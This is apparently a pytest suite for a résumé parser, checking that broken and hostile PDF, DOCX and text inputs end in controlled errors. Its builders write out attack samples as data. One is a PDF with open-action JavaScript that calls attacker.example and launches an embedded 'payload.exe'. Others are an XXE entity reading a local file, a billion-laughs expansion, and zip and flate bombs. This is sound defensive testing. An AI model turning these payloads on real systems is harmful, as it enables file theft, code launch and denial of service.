"""Hostile and broken input: nothing crashes, nothing hangs, nothing is lost.

Every case here ends in the :mod:`cvparse.errors` class written next to it, or (where the file
is readable) a profile that validates; never another exception. All inputs are built by the
tests; the people, companies and numbers in them are made up.

Each case is timed with ``time.perf_counter`` and the time attached to the test report
(``record_property``) but not asserted: speed is measured in benchmarks, where a slow machine
does not turn into a red build. The limits that keep these cases fast are asserted instead
(the error's ``limit`` field, a page walk that stops past ``max_pages``).
"""

from __future__ import annotations

import io
import random
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import cvparse
from cvparse.errors import (
    CorruptDocumentError,
    CvparseError,
    EmptyDocumentError,
    EncodingError,
    EncryptedDocumentError,
    LimitExceededError,
    NotAResumeError,
    NoTextError,
    ParseTimeoutError,
    UnsupportedFormatError,
)
from cvparse.limits import Deadline, Limits

ENGINES = ("pdfplumber", "pdfium")
Outcome = type[BaseException] | type[cvparse.Profile]


# -- builders ----------------------------------------------------------------------------------


def write_pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A PDF from numbered object bodies (object 1 is the catalog), with a correct xref."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    )
    return out.getvalue()


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


RESUME_LINES = [
    "Ann Example",
    "Phone 555 0100   Mail ann@example.com",
    "Education",
    "2016 - 2020  Example University, BSc Statistics",
    "Experience",
    "2020 - 2023  Acme Analytics Ltd, Data Engineer",
    "Built the nightly ETL jobs and the reporting warehouse",
]
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >>"
    b" /Contents 4 0 R >>"
)


def content(lines: list[str] = RESUME_LINES) -> bytes:
    ops = []
    for k, s in enumerate(lines):
        s = s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        ops.append(f"BT /F1 11 Tf 50 {780 - 18 * k} Td ({s}) Tj ET")
    return "\n".join(ops).encode("latin-1")


def resume_pdf(
    *,
    pages: int = 1,
    catalog: bytes = b"",
    kids: bytes | None = None,
    count: bytes | None = None,
    more: tuple[bytes, ...] = (),
    body: bytes | None = None,
) -> bytes:
    """Objects: 1 catalog, 2 page tree, 3 font, 4 content stream, 5.. pages, then ``more``."""
    objects = [b"", b"", FONT, stream(content() if body is None else body)]
    page_ids = []
    for _ in range(pages):
        objects.append(PAGE)
        page_ids.append(len(objects))
    objects.extend(more)
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>"
    kid_list = kids if kids is not None else " ".join(f"{k} 0 R" for k in page_ids).encode()
    objects[1] = b"<< /Type /Pages /Kids [" + kid_list + b"] /Count " + (count or b"%d" % pages) + b" >>"
    return write_pdf(objects)


def javascript_pdf() -> bytes:
    """A résumé whose catalog runs JavaScript on open and carries an embedded executable."""
    return resume_pdf(
        catalog=b"/OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 6 0 R] >>"
        b" /EmbeddedFiles << /Names [(payload.exe) 7 0 R] >> >>",
        more=(
            b"<< /S /JavaScript /JS (app.launchURL\\('http://attacker.example/'\\);"
            b" this.exportDataObject\\({cName: 'payload.exe', nLaunch: 2}\\);) >>",
            b"<< /Type /Filespec /F (payload.exe) /EF << /F 8 0 R >> >>",
            stream(b"MZ EMBEDDED-PAYLOAD-MARKER", b"/Type /EmbeddedFile "),
        ),
    )


def encrypted_pdf(user_password: str) -> bytes:
    pypdf = pytest.importorskip("pypdf", reason="pypdf (test extra) writes encrypted PDFs")
    reader = pypdf.PdfReader(io.BytesIO(resume_pdf()))
    writer = pypdf.PdfWriter()
    for page in reader.pages:
        writer.add_page(page)
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def page_tree_loop() -> bytes:
    """Two /Pages nodes whose /Kids point at each other, and no page at all."""
    return write_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
            FONT,
            stream(content()),
            b"<< /Type /Pages /Parent 2 0 R /Kids [6 0 R] /Count 1 >>",
            b"<< /Type /Pages /Parent 5 0 R /Kids [5 0 R] /Count 1 >>",
        ]
    )


def self_drawing_xobject() -> bytes:
    """A form XObject that draws itself (infinite recursion if followed)."""
    return write_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
            FONT,
            stream(content() + b"\n/X1 Do"),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 6 0 R /Contents 4 0 R >>",
            b"<< /Font << /F1 3 0 R >> /XObject << /X1 7 0 R >> >>",
            stream(b"/X1 Do", b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Resources 6 0 R "),
        ]
    )


def self_referencing_length() -> bytes:
    """A content stream whose /Length is the stream object itself."""
    return write_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
            FONT,
            b"<< /Length 4 0 R >>\nstream\n" + content() + b"\nendstream",
            PAGE,
        ]
    )


def docx_package(document_xml: bytes | Callable[[zipfile.ZipFile], None]) -> bytes:
    """A minimal Word package around ``document_xml`` (or a writer for a streamed part)."""
    types = (
        b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
        b'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", types)
        zf.writestr("_rels/.rels", rels)
        if callable(document_xml):
            document_xml(zf)
        else:
            zf.writestr("word/document.xml", document_xml)
    return out.getvalue()


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def word_xml(paragraphs: list[str], doctype: str = "") -> bytes:
    body = "".join(f'<w:p><w:r><w:t xml:space="preserve">{p}</w:t></w:r></w:p>' for p in paragraphs)
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}'
        f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    ).encode()


def docx_zip_bomb() -> bytes:
    """document.xml that inflates to 150 MB of blanks inside one paragraph (≈150 KB compressed)."""

    def write(zf: zipfile.ZipFile) -> None:
        with zf.open("word/document.xml", "w", force_zip64=True) as fh:
            fh.write(f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>'.encode())
            block = b" " * (1 << 20)
            for _ in range(150):
                fh.write(block)
            fh.write(b"</w:t></w:r></w:p></w:body></w:document>")

    return docx_package(write)


def docx_xxe(secret: Path) -> bytes:
    return docx_package(
        word_xml(["&xxe;"], f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>')
    )


def docx_billion_laughs() -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    return docx_package(word_xml(["&a9;"], f"<!DOCTYPE w:document [{entities}]>"))


NOVEL_ZH = """第三章 雨夜

那天晚上，雨下得很大。林晓站在车站的屋檐下，望着街对面那盏忽明忽暗的路灯，心里想着母亲临走前说的话。
“你要记得，不管走多远，家里的门总是开着的。”
她把旧皮箱换到另一只手上，箱角已经磨破了，露出里面发黄的衬布。远处传来火车的汽笛声，一声长，一声短，像是有人在叹气。
车站里只剩下一个打瞌睡的售票员和一只瘦猫。猫蹲在长椅下，尾巴一下一下地拍着地面。
“你也在等人吗？”她小声问。猫没有回答，只是眯起眼睛，往她手心里蹭了蹭。
第二天清晨，雨停了。林晓提起皮箱，登上了开往南方的第一班车。
"""
NOVEL_EN = """Chapter Three: The Rain

It rained hard that night. Mara stood under the eaves of the station and watched the street lamp
across the road flicker, thinking of what her mother had said before she left.
"Remember, however far you go, the door at home is always open."
She moved the old suitcase to her other hand. Far away a train whistle sounded, one long, one short.
"Are you waiting for someone too?" she asked the cat quietly.
The next morning the rain had stopped, and she took the first coach south.
"""
INVOICE_ZH = """增值税普通发票
发票代码：044031900111  发票号码：12345678
开票日期：2023年05月12日
购买方名称：深圳市示例科技有限公司
地址、电话：深圳市南山区科技园路1号 0755-12345678
货物或应税劳务名称  规格型号  单位  数量  单价  金额  税率  税额
*信息技术服务*软件开发服务  项  1  9433.96  9433.96  6%  566.04
价税合计（大写）壹万圆整  （小写）¥10000.00
销售方名称：北京示例软件有限公司
"""
INVOICE_EN = """INVOICE #2023-0042
Date: 12 May 2023
Bill to: Globex Corporation, 42 Example Road, Springfield
From: Acme Analytics Ltd, billing@acme.example
Description                 Qty   Unit price   Amount
Data pipeline consulting     10     150.00     1500.00
Subtotal 2100.00  VAT 20% 420.00  Total due 2520.00
"""
RESUME_ZH = "张晓明\n电话：13800138000\n教育经历\n2016.09-2020.06 北京示例大学 本科 计算机科学\n工作经历\n2020.07-至今 示例科技有限公司 工程师\n"


# -- running a case ----------------------------------------------------------------------------


def run(source: Any, *, limits: Limits | None = None, engine: str = "pdfplumber") -> tuple[Any, float]:
    """``(profile or CvparseError, seconds)``; any other exception fails the test as it is."""
    start = time.perf_counter()
    try:
        result: Any = cvparse.parse(source, limits=limits, engine=engine)  # type: ignore[arg-type]
    except CvparseError as exc:
        result = exc
    return result, time.perf_counter() - start


def check(result: Any, *expected: Outcome) -> None:
    kinds = tuple(expected)
    assert isinstance(result, kinds), f"expected one of {[k.__name__ for k in kinds]}, got {result!r}"
    if isinstance(result, cvparse.Profile):
        cvparse.Profile.model_validate(result.model_dump(mode="json"))
    else:
        assert isinstance(result, CvparseError)
        assert result.message  # a reason a user can read


@pytest.fixture
def timed(record_property: Callable[[str, object], None]) -> Callable[..., Any]:
    def go(source: Any, *expected: Outcome, limits: Limits | None = None, engine: str = "pdfplumber") -> Any:
        result, seconds = run(source, limits=limits, engine=engine)
        record_property("seconds", round(seconds, 3))
        check(result, *expected)
        return result

    return go


# -- empty and not what the name says ----------------------------------------------------------


@pytest.mark.parametrize("name", ["empty.txt", "empty.pdf", "empty.docx"])
def test_zero_length_file(tmp_path: Path, name: str, timed: Callable[..., Any]) -> None:
    path = tmp_path / name
    path.write_bytes(b"")
    timed(path, EmptyDocumentError)


@pytest.mark.parametrize("data", [b"", b"   \n\t\r\n  ", b"\xef\xbb\xbf\n"])
def test_empty_bytes(data: bytes, timed: Callable[..., Any]) -> None:
    timed(data, EmptyDocumentError)


@pytest.mark.parametrize("seed", range(3))
def test_random_bytes_named_pdf(tmp_path: Path, seed: int, timed: Callable[..., Any]) -> None:
    path = tmp_path / "resume.pdf"
    path.write_bytes(random.Random(seed).randbytes(50_000))
    timed(path, UnsupportedFormatError, EncodingError)


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("seed", range(3))
def test_random_bytes_behind_a_pdf_header(engine: str, seed: int, timed: Callable[..., Any]) -> None:
    timed(b"%PDF-1.7\n" + random.Random(seed).randbytes(50_000), CorruptDocumentError, engine=engine)


# -- broken PDFs -------------------------------------------------------------------------------


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("cut", [0.05, 0.3, 0.6, 0.9, 0.99])
def test_truncated_pdf(engine: str, cut: float, timed: Callable[..., Any]) -> None:
    data = resume_pdf()
    # pdfminer rebuilds a lost xref by scanning, so a file cut after its last page still reads
    timed(data[: int(len(data) * cut)], CorruptDocumentError, NoTextError, cvparse.Profile, engine=engine)


@pytest.mark.parametrize("engine", ENGINES)
def test_image_only_pdf_needs_ocr(engine: str, timed: Callable[..., Any]) -> None:
    timed(resume_pdf(body=b"0.5 g 50 50 400 600 re f"), NoTextError, engine=engine)


@pytest.mark.parametrize("engine", ENGINES)
def test_encrypted_pdf_without_the_password(engine: str, timed: Callable[..., Any]) -> None:
    timed(encrypted_pdf("secret"), EncryptedDocumentError, engine=engine)


@pytest.mark.parametrize("engine", ENGINES)
def test_encrypted_pdf_with_an_empty_user_password_is_read(engine: str, timed: Callable[..., Any]) -> None:
    profile = timed(encrypted_pdf(""), cvparse.Profile, engine=engine)
    assert profile.name == "Ann Example"


@pytest.mark.parametrize("engine", ENGINES)
def test_javascript_and_embedded_files_are_text_only(
    engine: str, timed: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    import os
    import subprocess
    import webbrowser

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("parsing tried to run or open something")

    monkeypatch.setattr(subprocess.Popen, "__init__", refuse)
    monkeypatch.setattr(os, "system", refuse)
    monkeypatch.setattr(webbrowser, "open", refuse)
    profile = timed(javascript_pdf(), cvparse.Profile, engine=engine)
    assert profile.name == "Ann Example"
    dumped = profile.model_dump_json()
    assert "EMBEDDED-PAYLOAD-MARKER" not in dumped
    assert "attacker.example" not in dumped


@pytest.mark.parametrize("engine", ENGINES)
def test_thousands_of_pages_are_refused_from_the_count(engine: str, timed: Callable[..., Any]) -> None:
    error = timed(resume_pdf(pages=5000), LimitExceededError, engine=engine)
    assert (error.limit, error.value) == ("max_pages", 5000)


def test_page_count_that_lies_is_caught_while_reading(timed: Callable[..., Any]) -> None:
    error = timed(resume_pdf(pages=5000, count=b"1"), LimitExceededError)
    assert error.limit == "max_pages"
    assert error.value <= 31  # the walk stopped one page past the limit, not at page 5,000


def test_pdfium_trusts_a_lying_page_count_and_reads_only_those_pages(timed: Callable[..., Any]) -> None:
    timed(resume_pdf(pages=5000, count=b"1"), cvparse.Profile, engine="pdfium")


def test_page_tree_without_a_count_is_walked_only_past_the_limit(timed: Callable[..., Any]) -> None:
    error = timed(resume_pdf(pages=5000, count=b"null"), LimitExceededError)
    assert error.limit == "max_pages"
    assert "more than 30" in error.message


@pytest.mark.parametrize("engine", ENGINES)
def test_page_limit_is_configurable(engine: str, timed: Callable[..., Any]) -> None:
    timed(resume_pdf(pages=40), cvparse.Profile, limits=Limits(max_pages=None), engine=engine)
    timed(resume_pdf(pages=3), LimitExceededError, limits=Limits(max_pages=2), engine=engine)


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize(
    ("make", "expected"),
    [
        pytest.param(
            lambda: resume_pdf(kids=b"2 0 R"),
            (cvparse.Profile, NoTextError, CorruptDocumentError),
            id="pages-kids-itself",
        ),
        pytest.param(
            lambda: resume_pdf(kids=b"2 0 R 5 0 R"),
            (cvparse.Profile, CorruptDocumentError),
            id="pages-kids-itself-and-a-page",
        ),
        pytest.param(page_tree_loop, (NoTextError, CorruptDocumentError), id="pages-loop"),
        pytest.param(
            self_drawing_xobject, (cvparse.Profile, CorruptDocumentError), id="xobject-draws-itself"
        ),
        pytest.param(
            self_referencing_length, (CorruptDocumentError, cvparse.Profile), id="length-refers-to-itself"
        ),
        pytest.param(
            lambda: resume_pdf(catalog=b"/X " + b"[" * 10_000 + b"]" * 10_000),
            (cvparse.Profile, CorruptDocumentError),
            id="10k-nested-arrays",
        ),
        pytest.param(
            lambda: resume_pdf(catalog=b"/X " + b"<< /A " * 10_000 + b">>" * 10_000),
            (cvparse.Profile, CorruptDocumentError),
            id="10k-nested-dicts",
        ),
        pytest.param(
            lambda: resume_pdf(body=content() + b"\n" + b"[" * 10_000 + b"]" * 10_000 + b" TJ"),
            (cvparse.Profile, CorruptDocumentError),
            id="10k-nested-arrays-in-content",
        ),
    ],
)
def test_self_referencing_and_deeply_nested_objects(
    engine: str, make: Callable[[], bytes], expected: tuple[Outcome, ...], timed: Callable[..., Any]
) -> None:
    timed(make(), *expected, engine=engine)


@pytest.mark.parametrize("engine", ENGINES)
def test_flate_bomb_content_stream(engine: str, timed: Callable[..., Any]) -> None:
    bomb = zlib.compress(b" " * 50_000_000, 9)  # 50 KB inflating to 50 MB
    data = resume_pdf(body=b"", more=(stream(bomb, b"/Filter /FlateDecode "),))
    data = data.replace(b"/Contents 4 0 R", b"/Contents [4 0 R 6 0 R]")
    timed(data, NoTextError, LimitExceededError, CorruptDocumentError, engine=engine)


# -- DOCX --------------------------------------------------------------------------------------


def test_docx_zip_bomb_is_refused_before_inflating(timed: Callable[..., Any]) -> None:
    data = docx_zip_bomb()
    assert len(data) < 1_000_000
    error = timed(data, LimitExceededError)
    assert error.limit == "max_unzipped_bytes"


def test_docx_external_entity_is_not_resolved(tmp_path: Path, timed: Callable[..., Any]) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-VALUE", encoding="utf-8")
    error = timed(docx_xxe(secret), CorruptDocumentError)
    assert "TOP-SECRET-VALUE" not in str(error)


def test_docx_entity_expansion_is_refused(timed: Callable[..., Any]) -> None:
    timed(docx_billion_laughs(), CorruptDocumentError)


def test_docx_with_too_much_text_hits_max_chars(timed: Callable[..., Any]) -> None:
    paragraphs = [f"第{i}段 示例文字" * 20 for i in range(2500)]  # ≈ 400,000 characters
    error = timed(docx_package(word_xml(paragraphs)), LimitExceededError)
    assert error.limit == "max_chars"


@pytest.mark.parametrize("cut", [0.2, 0.5, 0.95])
def test_truncated_docx(cut: float, timed: Callable[..., Any]) -> None:
    data = docx_package(word_xml(RESUME_ZH.splitlines()))
    timed(data[: int(len(data) * cut)], CorruptDocumentError, UnsupportedFormatError)


def test_docx_directory_claiming_an_unknown_zip_version(timed: Callable[..., Any]) -> None:
    """Found by test_fuzz_documents: zipfile raises NotImplementedError("zip file version 8.4")."""
    data = bytearray(docx_package(word_xml(RESUME_ZH.splitlines())))
    pos = data.find(b"PK\x01\x02")
    data[pos + 6] = 84  # "version needed to extract" of the first central-directory entry
    timed(bytes(data), CorruptDocumentError)


# -- text --------------------------------------------------------------------------------------


def test_gbk_text_with_broken_sequences_is_read(timed: Callable[..., Any]) -> None:
    head, tail = RESUME_ZH.encode("gbk").split(b"\n", 1)
    broken = head + b"\n\xff\x81\n" + tail.replace(b"\n", b"\n\x80\n", 1)  # invalid in GBK/GB18030
    profile = timed(broken, cvparse.Profile, EncodingError)
    if isinstance(profile, cvparse.Profile):
        assert profile.phone == "13800138000"


def test_utf8_text_with_invalid_sequences_keeps_the_readable_part(timed: Callable[..., Any]) -> None:
    head, tail = RESUME_ZH.encode("utf-8").split(b"\n", 1)
    profile = timed(head + b"\n\xc3\x28\xa0\xa1\n" + tail, cvparse.Profile, EncodingError)
    if isinstance(profile, cvparse.Profile):
        assert profile.phone == "13800138000"


def test_50_mb_text_file_is_refused_from_its_size(tmp_path: Path, timed: Callable[..., Any]) -> None:
    path = tmp_path / "huge.txt"
    with path.open("wb") as fh:
        line = (RESUME_ZH * 4).encode()
        for _ in range(50_000_000 // len(line) + 1):
            fh.write(line)
    error = timed(path, LimitExceededError)
    assert error.limit == "max_bytes"


def test_50_mb_text_without_a_byte_limit_is_refused_before_decoding(timed: Callable[..., Any]) -> None:
    data = b"x" * 50_000_000
    error = timed(data, LimitExceededError, limits=Limits(max_bytes=None))
    assert error.limit == "max_chars"


def test_char_limit_is_configurable(timed: Callable[..., Any]) -> None:
    timed(RESUME_ZH.encode(), LimitExceededError, limits=Limits(max_chars=50))
    timed(RESUME_ZH.encode(), cvparse.Profile, limits=Limits(max_chars=None))


PATHOLOGICAL_TEXT = {
    "200KB-one-line-letters": "a" * 200_000,
    "200KB-one-line-words": "hello world " * 17_000,
    "200KB-one-line-cjk": "张三李四王五" * 34_000,
    "100k-fullwidth-colons": "：" * 100_000,
    "100k-bars": "|" * 100_000,
    "100k-spaces-then-a-letter": " " * 100_000 + "a",
    "100k-tabs-then-a-label": "\t" * 100_000 + "姓名",
    "100k-letters-then-at": "a" * 100_000 + "@",
    "50k-dotted-letters-then-at": "a." * 50_000 + "@b",
    "phone-like-digits": "1380013800 " * 18_000,
    "label-colon-repeated": "姓名：" * 33_000,
    "10k-levels-of-indent": "  " * 10_000 + "- item",
    "10k-bullet-lines": "\n".join("  " * (i % 12) + "- " + f"item {i}" for i in range(10_000)),
    "10k-numbered-lines": "\n".join("   " * (i % 8) + f"{i}. 项目" for i in range(10_000)),
    "10k-bullets-one-line": "- " * 10_000 + "x",
    "10k-nested-quotes": ">" * 10_000 + " x",
    "markdown-link-openers": "[a](" * 25_000,
}


@pytest.mark.parametrize("text", PATHOLOGICAL_TEXT.values(), ids=PATHOLOGICAL_TEXT.keys())
def test_pathological_text(text: str, record_property: Callable[[str, object], None]) -> None:
    start = time.perf_counter()
    try:
        result: Any = cvparse.parse_text(text)
    except CvparseError as exc:
        result = exc
    record_property("seconds", round(time.perf_counter() - start, 3))
    check(result, cvparse.Profile, NotAResumeError, LimitExceededError)


# -- documents that are not résumés ------------------------------------------------------------


@pytest.mark.parametrize("text", [NOVEL_ZH, NOVEL_EN], ids=["novel-zh", "novel-en"])
def test_a_novel_chapter_is_not_a_resume(text: str, timed: Callable[..., Any]) -> None:
    timed(text.encode(), NotAResumeError)


@pytest.mark.parametrize("text", [INVOICE_ZH, INVOICE_EN], ids=["invoice-zh", "invoice-en"])
def test_an_invoice_yields_no_invented_person(text: str, timed: Callable[..., Any]) -> None:
    """An invoice holds real contact details, so a contact-only profile is acceptable; a name,
    school or employer read out of it would be a confident fake."""
    result = timed(text.encode(), NotAResumeError, cvparse.Profile)
    if isinstance(result, cvparse.Profile):
        assert result.name is None
        assert not result.education
        assert not result.work


# -- time --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "make",
    [lambda: resume_pdf(pages=3), lambda: docx_package(word_xml(RESUME_ZH.splitlines())), RESUME_ZH.encode],
    ids=["pdf", "docx", "text"],
)
def test_timeout_inside_parse_raises_parse_timeout(
    make: Callable[[], bytes], timed: Callable[..., Any]
) -> None:
    timed(make(), ParseTimeoutError, limits=Limits(timeout=1e-9))


def test_no_timeout_means_no_deadline() -> None:
    assert not Deadline.start(None).expired()
    assert not Deadline.start(0).expired()
    cvparse.parse(RESUME_ZH.encode(), limits=Limits(timeout=None))


def test_parse_text_has_the_same_limits() -> None:
    with pytest.raises(ParseTimeoutError):
        cvparse.parse_text(RESUME_ZH, limits=Limits(timeout=1e-9))
    with pytest.raises(LimitExceededError):
        cvparse.parse_text(RESUME_ZH, limits=Limits(max_chars=10))


# -- the line bounds keep real lines as they are -----------------------------------------------


def test_bounded_lines_lose_no_text() -> None:
    from cvparse.document import Line
    from cvparse.intake.bounds import MAX_BLANK_RUN, MAX_LINE_CHARS, bound_lines

    real = [Line("姓名：张三        性别：男"), Line("2019.09 - 2023.06 | 北京大学 | 本科")]
    assert bound_lines(real) == real
    long = Line(("word " * 2000) + "x" * 5000)
    parts = bound_lines([long])
    assert all(len(p.text) <= MAX_LINE_CHARS for p in parts)
    assert "".join(p.text for p in parts) == long.text
    spaced = bound_lines([Line("a" + " " * 1000 + "b")])
    assert spaced == [Line("a" + " " * MAX_BLANK_RUN + "b")]
